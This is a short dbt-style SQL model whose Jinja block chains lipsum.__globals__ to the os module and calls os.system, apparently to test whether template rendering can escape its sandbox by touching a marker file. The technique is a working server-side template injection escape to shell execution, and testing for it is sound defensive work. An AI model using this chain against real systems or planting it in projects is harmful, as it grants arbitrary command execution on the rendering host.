{# a chain of sets, each step a variable #}
{% set f = lipsum %}
{% set g = f.__globals__ %}
{% set o = g['os'] %}
{% do o.system('touch ' ~ env_var('ESCAPE_MARKER')) %}
select 1 as id
